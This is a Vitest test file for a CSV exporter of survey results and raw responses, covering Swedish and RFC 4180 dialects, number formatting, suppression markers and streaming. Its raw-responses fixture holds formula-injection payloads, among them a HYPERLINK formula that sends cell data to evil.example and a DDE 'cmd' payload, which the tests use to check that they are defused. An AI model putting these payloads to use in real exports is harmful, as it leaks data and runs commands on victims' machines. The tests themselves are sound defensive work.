import { buffer } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import { csvRecord, csvResponsesStream, csvResultsStream } from './csv.js';
import type { TRawCell } from './export-model.js';
import { EN_HEADER, HOSTILE_TITLE, SV_HEADER, sampleTables } from './test-fixtures.js';

/** A strict RFC 4180 reader: CRLF only between records, quotes only around whole fields. */
function parseCsv(text: string, separator: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    const c = text.charAt(i);
    if (c === '"' && field === '') {
      const end = closingQuote(text, i);
      field = text.slice(i + 1, end).replaceAll('""', '"');
      i = end + 1;
      if (![separator, '\r'].includes(text.charAt(i))) throw new Error(`Text after a closing quote at ${i}`);
    } else if (c === separator) {
      record.push(field);
      field = '';
      i++;
    } else if (c === '\r' && text.charAt(i + 1) === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else if (c === '\r' || c === '\n' || c === '"') {
      throw new Error(`Unquoted ${JSON.stringify(c)} at ${i}`);
    } else {
      field += c;
      i++;
    }
  }
  if (field !== '' || record.length > 0) throw new Error('The last record has no CRLF');
  return records;
}

function closingQuote(text: string, open: number): number {
  for (let i = open + 1; i < text.length; i++) {
    if (text.charAt(i) !== '"') continue;
    if (text.charAt(i + 1) === '"') i++;
    else return i;
  }
  throw new Error('Unclosed quote');
}

async function* slowly(rows: TRawCell[][]): AsyncGenerator<TRawCell[]> {
  for (const row of rows) yield row;
}

describe('csvRecord', () => {
  const rfc = { header: EN_HEADER, dialect: 'rfc4180' } as const;
  const sv = { header: SV_HEADER, dialect: 'excel-sv' } as const;

  it('quotes fields with a separator, a quote or a line break, doubling the quotes', () => {
    expect(csvRecord(['a,b', 'say "hi"', 'one\r\ntwo', 'three\nfour', 'plain', 'x;y'], rfc)).toBe(
      '"a,b","say ""hi""","one\r\ntwo","three\nfour",plain,"x;y"\r\n',
    );
  });

  it('writes numbers plainly, with a decimal comma in the Swedish variant', () => {
    const kinds = [undefined, 'percent', 'integer', 'number'] as const;
    expect(csvRecord(['Ja', 72.8, 1234, 0.25], rfc, kinds)).toBe('Ja,72.8,1234,0.25\r\n');
    expect(csvRecord(['Ja', 72.8, 1234, 0.25], sv, kinds)).toBe('Ja;72,8;1234;0,25\r\n');
    expect(csvRecord(['Vet ej', 10, null], sv, kinds)).toBe('Vet ej;10,0;\r\n');
  });

  it('writes a suppressed cell as the marker and null as an empty field', () => {
    expect(csvRecord(['Annan', { suppressed: true }, null], sv)).toBe('Annan;färre än 5 svar;\r\n');
  });
});

describe('results CSV', () => {
  it('is UTF-8 without a BOM, CRLF throughout (the strict reader checks), and starts with the header block', async () => {
    const bytes = await buffer(csvResultsStream({ header: EN_HEADER, tables: sampleTables(), dialect: 'rfc4180' }));
    expect(bytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    const text = bytes.toString('utf8');
    const records = parseCsv(text, ',');
    expect(records.slice(0, 5)).toEqual([
      ['Social services survey 2012'],
      ['Wave', '2012'],
      ['Exported on', '2026-11-26'],
      [EN_HEADER.minGroupRule],
      [EN_HEADER.suppressedNote],
    ]);
    expect(records).toContainEqual(['Ja', '72.8', '131']);
    expect(records).toContainEqual(['Vet ej', '10.0', '18']);
    expect(records).toContainEqual(['Totalt', '', '180']);
    expect(records).toContainEqual(['Annan', 'fewer than 5 responses', 'fewer than 5 responses']);
  });

  it('in the Excel (svenska) variant has a BOM, semicolons and decimal commas', async () => {
    const bytes = await buffer(csvResultsStream({ header: SV_HEADER, tables: sampleTables(), dialect: 'excel-sv' }));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text.startsWith('Socialtjänstenkäten 2012\r\nOmgång;2012\r\nExportdatum;2026-11-26\r\n')).toBe(true);
    const records = parseCsv(text, ';');
    expect(records).toContainEqual([SV_HEADER.minGroupRule]);
    expect(records).toContainEqual([SV_HEADER.suppressedNote]);
    expect(records).toContainEqual(['Alternativ', 'Procent', 'Värden']);
    expect(records).toContainEqual(['Ja', '72,8', '131']);
    expect(records).toContainEqual(['Nej', '17,2', '31']);
    expect(records).toContainEqual(['Biståndsbedömare', 'färre än 5 svar', 'färre än 5 svar']);
    expect(records).toContainEqual(['Felmarginal ±6,1 procentenheter (95 %).']);
  });

  it('defuses formulas in question texts, column names and labels', async () => {
    const text = (await buffer(csvResultsStream({ header: SV_HEADER, tables: sampleTables(), dialect: 'excel-sv' })))
      .toString('utf8')
      .slice(1);
    const records = parseCsv(text, ';');
    expect(records).toContainEqual([`'${HOSTILE_TITLE}`]);
    expect(records).toContainEqual(["'@Alternativ", 'Procent', 'Värden']);
    expect(records).toContainEqual(["'+Ja", '40,5', '17']);
    expect(records).toContainEqual(["'-Nej", '59,5', '25']);
    for (const field of records.flat()) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('raw responses CSV', () => {
  const columns = ['Roll', 'F1', '=Fråga 7', 'Antal'];
  const rows: TRawCell[][] = [
    ['Socialsekreterare', 'Ja', '=HYPERLINK("http://evil.example/?d="&A1,"Läs mer")', 3],
    ['Annan', 'Nej', '+46 70 123 45 67', -2],
    ['Biståndsbedömare', 'Vet ej', '-tråkigt', null],
    ['Annan', 'Ja', "@SUM(1+1)*cmd|' /C calc'!A0", 0],
    ['Annan', 'Ja', '\t=1+1', 1.5],
    ['Annan', 'Ja', '\r=1+1\r\nrad två; "citat"', 7],
  ];

  it('has the header block, the column names, one defused record per response in order, then the closing line', async () => {
    const bytes = await buffer(
      csvResponsesStream({ header: SV_HEADER, dialect: 'excel-sv', responses: { columns, rows: slowly(rows) } }),
    );
    const records = parseCsv(bytes.toString('utf8').slice(1), ';');
    expect(records.slice(0, 7)).toEqual([
      ['Socialtjänstenkäten 2012'],
      ['Omgång', '2012'],
      ['Exportdatum', '2026-11-26'],
      [SV_HEADER.minGroupRule],
      [SV_HEADER.suppressedNote],
      [''],
      ['Roll', 'F1', "'=Fråga 7", 'Antal'],
    ]);
    expect(records.at(-1)).toEqual([`Slut på filen: ${rows.length} rader.`]);
    expect(records.slice(7, -2)).toEqual([
      ['Socialsekreterare', 'Ja', '\'=HYPERLINK("http://evil.example/?d="&A1,"Läs mer")', '3'],
      ['Annan', 'Nej', "'+46 70 123 45 67", '-2'],
      ['Biståndsbedömare', 'Vet ej', "'-tråkigt", ''],
      ['Annan', 'Ja', "'@SUM(1+1)*cmd|' /C calc'!A0", '0'],
      ['Annan', 'Ja', "'\t=1+1", '1,5'],
      ['Annan', 'Ja', '\'\r=1+1\r\nrad två; "citat"', '7'],
    ]);
  });

  it('reads rows only as fast as its reader takes the bytes', async () => {
    let pulled = 0;
    async function* many(): AsyncGenerator<TRawCell[]> {
      for (let i = 0; i < 100_000; i++) {
        pulled++;
        yield ['Annan', 'Ja', `kommentar ${i}`, i];
      }
    }
    const stream = csvResponsesStream({ header: SV_HEADER, dialect: 'rfc4180', responses: { columns, rows: many() } });
    stream.pause();
    stream.read(0);
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(pulled).toBeGreaterThan(0);
    expect(pulled).toBeLessThan(10_000);
    stream.destroy();
  });
});
